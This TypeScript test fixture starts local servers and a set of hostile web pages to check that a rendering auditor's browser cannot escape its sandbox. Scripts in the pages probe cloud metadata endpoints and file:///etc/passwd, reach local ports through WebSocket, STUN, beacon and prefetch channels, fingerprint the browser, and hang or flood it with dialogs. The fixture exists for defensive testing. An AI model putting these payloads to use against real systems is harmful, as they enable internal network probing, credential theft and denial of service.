import { createSocket } from 'node:dgram';
import { createServer as createHttpServer, type ServerResponse } from 'node:http';
import { createServer as createTcpServer, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll } from 'vitest';
import { startDirectAuditor, type DirectAuditor } from './harness.js';
import { seededRandom } from './seeded.js';

// Pages that attack the auditor's browser (escapes, fingerprinting, hangs, crashes), served as both origin
// and node, plus sentinels that count any connection that escapes the browser.

export interface HostileSite {
  url: string;
  /** Query strings of /beacon requests: what the page's scripts learned about the browser. */
  beacons: string[];
  /** Requests and connections that reached the stand-ins for the dashboard and the database, and UDP datagrams (STUN) to the sentinel. */
  escapes: { dashboard: number; database: number; udp: number };
  /** The page that tries every side channel (STUN, DNS prefetch, preconnect, beacons) toward the sentinels. */
  signalPage: string;
  dashboardUrl: string;
  databasePort: number;
  /** How often a browser asked for the slow image (a render is in flight). */
  slowSeen: { count: number };
  close(): Promise<void>;
}

function page(body: string): string {
  return `<!DOCTYPE html><html><head><title>hostile</title></head><body><h1>Hostile page</h1>${body}</body></html>`;
}

export async function startHostileSite(): Promise<HostileSite> {
  const escapes = { dashboard: 0, database: 0, udp: 0 };
  const udp = createSocket('udp4');
  udp.on('message', () => escapes.udp++);
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', () => r()));
  const udpPort = udp.address().port;
  const sockets = new Set<Socket>();
  const dashboard = createHttpServer((_req, res) => {
    escapes.dashboard++;
    res.end('dashboard');
  });
  const database = createTcpServer((s) => {
    escapes.database++;
    s.destroy();
  });
  await new Promise<void>((r) => dashboard.listen(0, '127.0.0.1', r));
  await new Promise<void>((r) => database.listen(0, '127.0.0.1', r));
  const dashboardUrl = `http://127.0.0.1:${(dashboard.address() as AddressInfo).port}/`;
  const databasePort = (database.address() as AddressInfo).port;
  const beacons: string[] = [];
  const slowSeen = { count: 0 };
  const pages: Record<string, string> = {
    '/': page('<p>A quiet page.</p>'),
    '/escape': page(`<iframe src="${dashboardUrl}"></iframe><img src="http://127.0.0.1:${databasePort}/x"><img src="http://127.0.0.1:5432/x">
<script>fetch('http://169.254.169.254/latest/meta-data/').catch(function(){});
try { new WebSocket('ws://127.0.0.1:${databasePort}/'); } catch (e) {}
try { new WebSocket('ws://127.0.0.1:5432/'); } catch (e) {}
try { var w = new Worker('/worker.js'); } catch (e) {}
setTimeout(function(){ location.href = 'file:///etc/passwd'; }, 30);</script>`),
    '/navigate-metadata': page(`<script>location.href = 'http://169.254.169.254/latest/meta-data/';</script>`),
    '/navigate-dashboard': page(`<script>setTimeout(function(){ location.href = '${dashboardUrl}'; }, 10);</script>`),
    '/download': page(`<a id="d" href="/file.bin" download="x.bin">get</a><script>document.getElementById('d').click(); location.href = '/file.bin';</script>`),
    '/hang': page('<script>while (true) {}</script>'),
    '/promises': page('<script>for (var i = 0; i < 10000; i++) new Promise(function(){}); (async function(){ await new Promise(function(){}); })();</script>'),
    '/alerts': page('<script>for (var i = 0; i < 500; i++) { alert(i); confirm(i); prompt(i); } setInterval(function(){ alert(1); }, 1);</script>'),
    '/popups': page(`<script>for (var i = 0; i < 200; i++) window.open('${dashboardUrl}' + i);
var a = document.createElement('a'); a.href = '/'; a.target = '_blank'; document.body.appendChild(a); a.click();</script>`),
    // Tells the node "an auditor renders me" by every channel that is not a plain request.
    '/signal': page(`<link rel="preconnect" href="http://localhost:${databasePort}"><link rel="dns-prefetch" href="//auditor-probe.localhost">
<a id="p" href="/" ping="http://127.0.0.1:${databasePort}/ping">x</a>
<script>var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'stun:localhost:${udpPort}' }] });
pc.createDataChannel('x'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
navigator.sendBeacon('http://127.0.0.1:${databasePort}/beacon', 'auditor');
fetch('http://localhost:${databasePort}/k', { keepalive: true, mode: 'no-cors' }).catch(function () {});
new Image().src = 'http://127.0.0.1:${databasePort}/px';</script>`),
    '/beacon-page': page(`<script>fetch('/beacon?ua=' + encodeURIComponent(navigator.userAgent) + '&wd=' + navigator.webdriver + '&lang=' + encodeURIComponent(navigator.languages.join(',')) + '&headless=' + /Headless/.test(navigator.userAgent) + '&plugins=' + navigator.plugins.length + '&observer=' + typeof window.__verityMutations);</script>`),
    // The image is added by a script, so only the browser (not the HTTP checks) asks for it.
    '/slow': page(`<p>slow</p><script>document.write('<img src="/slow.png">');</script>`),
  };
  const send = (res: ServerResponse, type: string, body: string, extra: Record<string, string> = {}) => {
    res.writeHead(200, { 'content-type': type, 'content-length': String(Buffer.byteLength(body)), ...extra });
    res.end(body);
  };
  const server = createHttpServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/beacon') {
      beacons.push(url.search);
      return send(res, 'text/plain', 'ok');
    }
    if (url.pathname === '/worker.js') return send(res, 'text/javascript', `fetch('http://169.254.169.254/worker').catch(function(){}); new WebSocket('ws://127.0.0.1:${databasePort}/');`);
    if (url.pathname === '/file.bin') return send(res, 'application/octet-stream', 'MZ-not-really-an-exe', { 'content-disposition': 'attachment; filename="invoice.exe"' });
    if (url.pathname === '/slow.png') {
      slowSeen.count++;
      setTimeout(() => send(res, 'image/png', ''), 4000).unref();
      return;
    }
    const html = pages[url.pathname];
    if (html) return send(res, 'text/html; charset=utf-8', html);
    res.writeHead(404);
    res.end();
  });
  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    beacons,
    escapes,
    signalPage: pages['/signal'] ?? '',
    dashboardUrl,
    databasePort,
    slowSeen,
    close: async () => {
      for (const s of sockets) s.destroy();
      dashboard.closeAllConnections();
      await Promise.all([
        new Promise<void>((r) => server.close(() => r())),
        new Promise<void>((r) => dashboard.close(() => r())),
        new Promise<void>((r) => database.close(() => r())),
        new Promise<void>((r) => udp.close(() => r())),
      ]);
    },
  };
}

export interface HostileScene {
  site: HostileSite;
  auditor: DirectAuditor;
  audit(path: string): ReturnType<DirectAuditor['audit']>;
}

/**
 * One hostile site and one rendering auditor for a test file (a handful of pages each), started
 * before its tests and closed after. The site serves as its own origin and node.
 */
export function useHostileScene(host = 'hostile.test'): HostileScene {
  const scene = {
    audit: (path: string) => scene.auditor.audit(scene.site.url, scene.site.url, path, host),
  } as HostileScene;
  beforeAll(async () => {
    scene.site = await startHostileSite();
    scene.auditor = await startDirectAuditor({ browser: true, random: seededRandom(8), settings: { loadTimeoutMs: 6000, settleMs: 300, stepTimeoutMs: 6000 } });
  });
  afterAll(async () => {
    await scene.auditor?.close();
    await scene.site?.close();
  });
  return scene;
}
